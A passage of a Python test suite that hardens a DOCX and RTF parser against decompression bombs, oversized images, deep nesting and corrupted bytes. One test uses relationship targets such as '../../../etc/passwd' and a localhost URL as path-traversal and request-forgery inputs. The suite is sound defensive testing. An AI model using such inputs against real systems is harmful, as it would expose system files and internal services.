        "tiff": b"II*\0" + struct.pack("<IH", 8, 2) + tags,
        "webp": b"RIFF\0\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0" + b"".join(
            (side - 1).to_bytes(3, "little") for side in (width, height)
        ),
    }  # fmt: skip


@pytest.mark.parametrize("kind", list(drawn_in(1, 1)))
@pytest.mark.parametrize(
    ("sizes", "kept"),
    [
        ([(12_000, 9_000)], [False]),
        ([(5_000, 4_000)], [True]),  # a photograph
        ([(5_000, 4_000), (900, 900), (5_000, 4_000)], [False, True, False]),  # too much together
    ],
    ids=["one", "photograph", "several"],
)
@pytest.mark.parametrize("called", ["word/media/image{}.png", "word/embeddings/{}.bin", "word/{}.xml"])
def test_pictures_of_more_pixels_than_memory_holds_are_left_out(
    kind: str, sizes: list[tuple[int, int]], kept: list[bool], called: str
) -> None:
    pictures = {called.format(number): drawn_in(*size)[kind] for number, size in enumerate(sizes)}
    data = dm.make_docx(dm.p("chữ"), dm.paper_styles(), pictures)
    with zipfile.ZipFile(io.BytesIO(documents.thin(data))) as lean:
        assert [lean.read(name) == content for name, content in pictures.items()] == kept


@pytest.mark.parametrize(
    "content",
    [b"BM la ten goi cua Ban Muc" * 9, b"RIFF\0\0\0\0WAVEfmt " * 9, b"\xff\xd8\xff cut", b"II*\0\xff\xff\0\0"],
)
def test_what_only_begins_like_a_picture_stays(content: bytes) -> None:
    data = dm.make_docx(dm.p("chữ"), dm.paper_styles(), {"word/media/a.bin": content})
    assert documents.thin(data) is data


@pytest.mark.parametrize("kind", ["png", "jpg"])
@pytest.mark.parametrize(
    ("size", "room", "kept"),
    [
        ((12_000, 9_000), rb"\picwgoal4000\pichgoal3000", False),
        ((12_000, 9_000), rb"\picscalex100", True),  # the page would look otherwise
        ((5_000, 4_000), rb"\picwgoal4000\pichgoal3000", True),
    ],
)
def test_pictures_of_many_pixels_in_rtf(kind: str, size: tuple[int, int], room: bytes, *, kept: bool) -> None:
    digits = (drawn_in(*size)[kind] + bytes(60)).hex().upper()
    broken = "\r\n".join(digits[at : at + 128] for at in range(0, len(digits), 128)).encode()
    data = rb"{\rtf1\ansi Bai {\pict\pngblip" + room + b" " + broken + rb"}\par het}"
    lean = documents.thin(data)
    assert (lean == data) is kept
    assert lean.startswith(data[: data.index(broken)])
    assert lean.endswith(rb"}\par het}")


@pytest.mark.parametrize(
    "filling", [b"x ffd8ff ", b"x89 50 4e     ", b"ffd8ff ", b"x89" + b" " * 4_000, b"x ffd8ff" + b"0" * 100]
)
def test_looking_for_pictures_in_rtf_takes_no_longer_than_reading_it(filling: bytes) -> None:
    data = rb"{\rtf1 " + filling * (8_000_000 // len(filling)) + b"}"
    began = time.process_time()
    assert documents.thin(data) is data
    assert time.process_time() - began < 3


@pytest.mark.parametrize("data", [PAPER, b"", b"PK", PAPER[:900], b"%PDF-1.4", dm.zip_bytes({})])
def test_what_needs_no_thinning_stays_as_it_is(data: bytes) -> None:
    assert documents.thin(data) is data


def declared(size: int, count: int = 1) -> bytes:
    """A small package whose directory declares pictures of this size."""
    data = bytearray(dm.make_docx(dm.p("x"), None, {f"word/media/image{number}.png": "x" for number in range(count)}))
    for at in (at for at in range(len(data)) if data[at : at + 4] == b"PK\x01\x02"):
        if data[at + 46 :].startswith(b"word/media"):
            struct.pack_into("<I", data, at + 24, size)
    return bytes(data)


def test_pictures_that_would_fill_the_memory_of_the_converter() -> None:
    assert problem(declared(300_000_000)) is P.BOMB
    assert problem(declared(200_000_000, 3)) is P.BOMB
    assert problem(declared(100_000_000)) is None


def test_too_many_entries() -> None:
    assert problem(dm.make_docx(dm.p("x"), None, {f"x/{number}": "" for number in range(10_001)})) is P.BOMB


@pytest.mark.parametrize(("code", "shown"), [("D800", ""), ("DFFF", ""), ("110000", ""), ("F0E0", "\uf0e0")])
def test_symbols_whose_number_is_no_character(code: str, shown: str) -> None:
    symbol = f'<w:r><w:sym w:font="Wingdings" w:char="{code}"/></w:r>'
    (paragraph,) = documents.read(dm.make_docx(dm.p(dm.r("a"), symbol, dm.r("b"))), "a.docx").paragraphs
    assert ascii(paragraph.text) == ascii(f"a{shown}b")  # half a character cannot even be reported


def test_symbols_count_as_characters() -> None:
    symbols = "<w:p><w:r>" + '<w:sym w:char="F0E0"/>' * 150_000 + "</w:r></w:p>"
    text = dm.p("a" * (MAX_CHARACTERS - 100_000))
    assert problem(dm.make_docx(text)) is None
    assert problem(dm.make_docx(text + symbols)) is P.BOMB


def nested(depth: int, *, last: str = "đáy") -> bytes:
    return dm.make_docx("<w:tbl><w:tr><w:tc>" * depth + dm.p(last) + "</w:tc></w:tr></w:tbl>" * depth)


def test_tables_nested_as_deep_as_the_parser_bears() -> None:
    (paragraph,) = documents.read(nested(600), "a.docx").paragraphs
    assert (paragraph.text, paragraph.place.table) == ("đáy", 1)


def test_three_thousand_nested_tables_are_a_bomb() -> None:
    assert problem(nested(3000)) is P.BOMB


def test_nested_boxes_controls_and_alternates_do_not_recurse() -> None:
    depth = 300
    boxes = (
        "<w:r><w:pict><v:textbox><w:txbxContent><w:p>" * depth
        + "</w:p></w:txbxContent></v:textbox></w:pict></w:r>" * depth
    )
    controls = "<w:sdt><w:sdtContent>" * depth + dm.r("trong") + "</w:sdtContent></w:sdt>" * depth
    choices = (
        "<mc:AlternateContent><mc:Choice Requires='wps'>" * depth
        + dm.r("chọn")
        + "</mc:Choice><mc:Fallback><w:p/></mc:Fallback></mc:AlternateContent>" * depth
    )
    document = documents.read(dm.make_docx(f"<w:p>{boxes}{controls}{choices}</w:p>" + dm.p("sau")), "a.docx")
    assert [it.text for it in document.paragraphs] == ["trongchọn", "sau"]
    assert document.paragraphs[-1].place.paragraph == 1 + depth + depth + 1


def test_twenty_thousand_fields_never_closed() -> None:
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    (paragraph,) = documents.read(dm.make_docx(f"<w:p>{begin * 20_000}{dm.r('chữ')}</w:p>"), "a.docx").paragraphs
    assert paragraph.text == "chữ"


def test_names_that_mean_something_to_us_mean_nothing_in_a_file() -> None:
    assert problem(dm.make_docx("<skipped/><paragraphs/>" + dm.p("chữ"))) is None


@pytest.mark.parametrize(
    "target", ["../../../etc/passwd", "/etc/passwd", "file:///etc/passwd", "http://127.0.0.1:1/styles.xml"]
)
def test_relationships_lead_nowhere_outside(target: str) -> None:
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="s" Type="{dm.RELATIONSHIPS}/styles" Target="{target}"/></Relationships>'
    )
    assert problem(dm.make_docx(dm.p("chữ"), None, {"word/_rels/document.xml.rels": relations})) is None


@settings(max_examples=150)
@given(st.data())
def test_a_damaged_file_never_raises(data: st.DataObject) -> None:
    """Bytes of a real paper changed at random places: some problem, or none, never an exception."""
    paper = bytearray(PAPER)
    for _ in range(data.draw(st.integers(1, 5))):
        paper[data.draw(st.integers(0, len(paper) - 1))] = data.draw(st.integers(0, 255))
    cut = bytes(paper[: data.draw(st.integers(0, len(paper)))]) if data.draw(st.booleans()) else bytes(paper)
    document = documents.read(cut, "bài.docx")
    assert isinstance(document, Document)
    assert isinstance(documents.peek(cut, document.kind), str)


_ELEMENTS = st.sampled_from(
    [
        "w:p",
        "w:r",
        "w:t",
        "w:tbl",
        "w:tr",
        "w:tc",
        "w:pPr",
        "w:rPr",
        "w:rFonts",
        "w:sectPr",
        "w:txbxContent",
        "w:sdt",
        "w:fldChar",
        "w:sym",
        "w:del",
        "m:oMath",
        "mc:AlternateContent",
        "mc:Choice",
        "mc:Fallback",
        "w:footnoteReference",
    ]
)


@settings(max_examples=150)
@given(st.recursive(_ELEMENTS.map(lambda name: f"<{name}/>"), lambda inner: st.builds(
    lambda name, parts: f"<{name}>chữ{''.join(parts)}</{name}>", _ELEMENTS, st.lists(inner, max_size=4)), max_leaves=25))  # fmt: skip
def test_elements_in_any_order_never_raise(body: str) -> None:
    """Well-formed nonsense: elements where no schema allows them."""
    assert problem(dm.make_docx(body)) in (None, P.EMPTY)
